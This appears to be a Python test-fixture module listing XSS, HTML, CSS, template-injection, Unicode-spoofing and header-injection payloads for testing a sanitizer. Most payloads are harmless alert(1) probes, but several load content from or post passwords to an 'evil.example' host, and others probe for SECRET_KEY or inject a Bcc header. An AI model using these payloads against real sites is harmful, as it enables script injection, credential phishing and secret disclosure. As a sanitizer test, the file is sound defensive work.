"""Hostile inputs, grouped by the trick they try.

Every vector that would run script calls ``alert(1)`` or ``window.__xss.push(…)`` so that the
browser test (tests/browser/test_hostile_inputs_browser.py) sees it fire. The strings are
written for this project, after the kinds of vectors that public XSS cheat sheets and the
HTML5 Security Cheatsheet collect. ``OVERSIZED`` and ``DEEP`` hold inputs that are too big
or too nested to be mixed into a batch.
"""

from __future__ import annotations

PUSH = "window.__xss.push(1)"

SCRIPT = [
    "<script>alert(1)</script>",
    f"<script>{PUSH}</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=/static/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert(1)",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script type="module">alert(1)</script>',
    "<script>/*</script><script>*/alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

_HANDLER_TAGS = [
    ("img", "src=x onerror"),
    ("body", "onload"),
    ("div", "onmouseover"),
    ("p", "onclick"),
    ("a", "href=# onfocus"),
    ("input", "autofocus onfocus"),
    ("details", "open ontoggle"),
    ("video", "src=x onerror"),
    ("audio", "src=x onerror"),
    ("select", "autofocus onfocus"),
    ("textarea", "autofocus onfocus"),
    ("marquee", "onstart"),
    ("button", "onclick"),
    ("table", "background=x onerror"),
    ("iframe", "onload"),
    ("object", "data=x onerror"),
    ("span", "onpointerover"),
    ("form", "onsubmit"),
    ("keygen", "autofocus onfocus"),
    ("isindex", "type=image src=x onerror"),
]
EVENT_HANDLERS = [f"<{tag} {attrs}=alert(1)>x</{tag}>" for tag, attrs in _HANDLER_TAGS] + [
    f'<img src=x onerror="{PUSH}">',
    "<img src=x OnErRoR=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<img src=x onerror\t=\talert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    "<img src=`x` onerror=alert(1)>",
    '<img src="x" alt="" onerror="alert(1)"/>',
    '<div style="width:100px;height:100px" onmouseenter="alert(1)">x</div>',
    "<body onpageshow=alert(1)>",
    "<svg onload=alert(1)>",
    "<style onload=alert(1)></style>",
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
    "<x contenteditable onblur=alert(1)>lose focus</x>",
]

URLS = [
    "[klick](javascript:alert(1))",
    "[klick](JaVaScRiPt:alert(1))",
    "[klick]( javascript:alert(1) )",
    "[klick](javascript&#58;alert(1))",
    "[klick](&#106;avascript:alert(1))",
    "[klick](java\tscript:alert(1))",
    "[klick](vbscript:msgbox(1))",
    "[klick](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[klick](data:text/html,<script>alert(1)</script>)",
    '[klick](javascript:alert(1) "Titel")',
    "[klick](<javascript:alert(1)>)",
    "[klick](%6Aavascript:alert(1))",
    "[klick](javascript://%0aalert(1))",
    "[klick][ref]\n\n[ref]: javascript:alert(1)",
    "[klick][ref2]\n\n[ref2]: data:text/html;base64,PHNjcmlwdD4=",
    "![bild](javascript:alert(1))",
    "![bild](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![bild](data:image/png;base64,iVBORw0KGgo=)",
    "![bild](https://tracker.example/pixel.gif)",
    "![bild](//tracker.example/pixel.gif)",
    '![bild"onerror="alert(1)](/x.png)',
    '![bild](/x.png"onerror="alert(1))',
    "<javascript:alert(1)>",
    "<vbscript:alert(1)>",
    "<data:text/html,alert(1)>",
    "javascript:alert(1)",
    "http://example.org/javascript:alert(1)",
    "www.example.org/<script>alert(1)</script>",
    '<a href="javascript:alert(1)">a</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">a</a>',
    '<a href="jav&#x09;ascript:alert(1)">a</a>',
    '<a href=" &#14; javascript:alert(1)">a</a>',
    '<a href="javascript&colon;alert(1)">a</a>',
    "<a href=javascript:alert(1)>a</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img srcset="javascript:alert(1) 1x">',
    '<a href="https://example.org" target="_blank">neues Fenster</a>',
    '<a href="https://example.org" ping="https://tracker.example/">ping</a>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<input type="image" src="javascript:alert(1)">',
]

SVG_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    f"<svg><script href=data:,{PUSH} /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">klick</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x><image href=x onerror=alert(1)/></svg>#x"/></svg>',
    "<svg><foreignObject><iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><script>alert(1)</script></title></svg>",
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=alert(1)>"></style></h1>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">klick</maction></math>',
    '<math href="javascript:alert(1)">x</math>',
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<svg><![CDATA[><image xlink:href=]]><img src=x onerror=alert(1)//]]></svg>",
    "<svg><desc><template><style><img src=x onerror=alert(1)></style></template></desc></svg>",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
]

CSS = [
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">Overlay</p>',
    '<div style="background-image:url(&#1;javascript:alert(1))">x</div>',
    '<span style="color:red;font-size:99px">laut</span>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>*{background:url('https://tracker.example/?c=1')}</style>",
    '<div style="x:\\65 xpression(alert(1))">x</div>',
]

EMBEDDING = [
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=javascript:alert(1)>",
    "<embed src=https://evil.example/x.swf>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<form action="https://evil.example/login" method="post"><input name="password"><button>Senden</button></form>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<applet code="x.class"></applet>',
    "<frameset><frame src=javascript:alert(1)></frameset>",
    '<portal src="https://evil.example/"></portal>',
]

BROKEN_MARKUP = [
    "<img src=x onerror=alert(1)",
    "<<script>alert(1)//<</script>",
    "<a href='x'<img src=x onerror=alert(1)>",
    "<div><p><b><i>unclosed",
    "</div></div></div></main></body></html>",
    "<b><p>mis</b>nested</p>",
    "<table><tr><td><img src=x onerror=alert(1)></table>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing><img src=x onerror=alert(1)></listing>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    '<? foo="><script>alert(1)</script>">',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<a title="x"onmouseover="alert(1)">a</a>',
    '<a title="a\'b"c">a</a>',
    '<img """><script>alert(1)</script>">',
    "<a/href=javascript:alert(1)>a</a>",
    '<div id="x" id="y" class="z" onclick="alert(1)">doppelt</div>',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "| <script>alert(1)</script> | x |\n|---|---|\n| <img src=x onerror=alert(1)> | y |",
    "**<img src=x onerror=alert(1)>**",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    '[a](https://example.org "title\\" onmouseover=\\"alert(1)")',
    "<details open><summary>x</summary><img src=x onerror=alert(1)></details>",
]

TEMPLATE = [
    "{{7*7}}",
    "{{ 7*7 }}",
    "{% debug %}",
    "{% load static %}{% static 'x' %}",
    "{{ request.user.password }}",
    "{{ settings.SECRET_KEY }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "[[7*7]]",
    "%(title)s %s %d {0} {title}",
]

UNICODE = [
    "\u202eevil\u202c Antwort",
    "Rechnung\u202egpj.exe",
    "\u202dOverride\u202c und \u2066Isolate\u2069",
    "\u200fRTL-Marke und \u200eLTR-Marke",
    "Null\u200bbreite\u200cZeichen\u200d",
    "\ufeffBOM am Anfang",
    "Mod\u0435rat\u0438on",  # Cyrillic e and i in "Moderation"
    "\u0430dmin",  # Cyrillic a
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # fullwidth angle brackets
    "\u2039script\u203aalert(1)\u2039/script\u203a",
    "ｊａｖａｓｃｒｉｐｔ：alert(1)",
    "[klick](https://b\u043echum.de/login)",  # Cyrillic o in the host
    "https://xn--bchum-4ve.de/login",
    "Z̷̢̧͉a̸̡͎l̶̢̛g̵̨̛o̶͇͝ Text",
    "😀👨‍👩‍👧‍👦🏳️‍🌈 Emoji-Folgen",
    "\U0001d4d7\U0001d4ee\U0001d4f5\U0001d4f5\U0001d4f8",  # mathematical script letters
    "Straße ß ẞ İstanbul ǅ",
    "\u0000",
    "ﷺ ﷽ \u0e47\u0e47\u0e47\u0e47",
    "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
]

CONTROL = [
    "Zeile\x00mit NUL",
    "Glocke\x07 und Backspace\x08",
    "Escape \x1b[31mrot\x1b[0m",
    "Wagenrücklauf\rüberschreibt",
    "Vertikal\x0bTab\x0cFormfeed",
    "DEL\x7f und C1\x85\x9b",
    "Tab\tgetrennt\tzweimal",
    "Zeilen\u2028Trenner\u2029Absatz",
    "%00%0d%0aSet-Cookie:%20x=1",
    "Header\r\nBcc: opfer@example.org",
]

BREAKOUT = [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "`onmouseover=alert(1)",
    '";alert(1);//',
    "';alert(1);//",
    "</script><img src=x onerror=alert(1)>",
    '{"a":"</script><script>alert(1)</script>"}',
    '\\";alert(1);//',
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    '-->"><img src=x onerror=alert(1)><!--',
    "]]><img src=x onerror=alert(1)>",
    "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
]

CATEGORIES: dict[str, list[str]] = {
    "script": SCRIPT,
    "event_handlers": EVENT_HANDLERS,
    "urls": URLS,
    "svg_mathml": SVG_MATHML,
    "css": CSS,
    "embedding": EMBEDDING,
    "broken_markup": BROKEN_MARKUP,
    "template": TEMPLATE,
    "unicode": UNICODE,
    "control": CONTROL,
    "breakout": BREAKOUT,
}

ALL: list[str] = [v for vectors in CATEGORIES.values() for v in vectors]

# Inputs too big or too deep to share a batch; each goes through a field on its own.
LONG_LINE = "A" * 29_000
DEEP: dict[str, str] = {
    "bullets": "* " * 10_000 + "tief",
    "numbers": "1. " * 9_000 + "tief",
    "quotes": "> " * 10_000 + "tief",
    "emphasis": "*" * 10_000 + "tief" + "*" * 10_000,
    "html": "<b>" * 9_000 + "tief",
    "links": "[a](" * 7_000,
}
